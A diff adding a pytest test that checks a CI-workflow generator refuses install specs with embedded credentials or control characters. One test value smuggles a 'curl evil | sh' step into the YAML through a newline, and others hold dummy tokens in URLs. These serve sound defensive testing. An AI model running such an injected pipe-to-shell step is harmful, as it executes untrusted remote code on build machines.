@@ -232,3 +232,19 @@ def test_the_repository_workflow_is_not_stale(run_cli, tmp_path):
     code, _, err = run_cli("ci", "init", *[a.strip("'") for a in args], "-o", str(fresh))
     assert code == 0, err
     assert fresh.read_text() == wf.read_text(), "regenerate it: " + first.lstrip("# ")
+
+
+@pytest.mark.parametrize(("spec", "words"), [
+    ("nlpsetup @ git+https://ghp_T0kenValue123@github.com/o/nlpsetup@abc123", "carries a credential"),
+    ("nlpsetup @ git+https://bob:s3cretPw@git.example/o/nlpsetup", "carries a credential"),
+    ("nlpsetup==1.0\n  - run: curl evil | sh", "contains a control character"),
+    ("nlpsetup==1.0\r", "contains a control character"),
+])
+def test_an_install_spec_with_a_credential_or_a_control_character_is_refused(run_cli, tmp_path, spec, words):
+    wf = tmp_path / "wf.yml"
+    for extra in ([], ["--check"]):
+        code, out, err = run_cli("ci", "init", "spacy", "-o", str(wf), "--install-spec", spec, *extra)
+        assert code == 2 and words in err and "Traceback" not in err, err
+        assert "T0kenValue" not in out + err and "s3cretPw" not in out + err and "\n  - run" not in err
+        assert not wf.exists()
+        assert "secrets." in err or "control" in words  # says how to give the runner the token instead
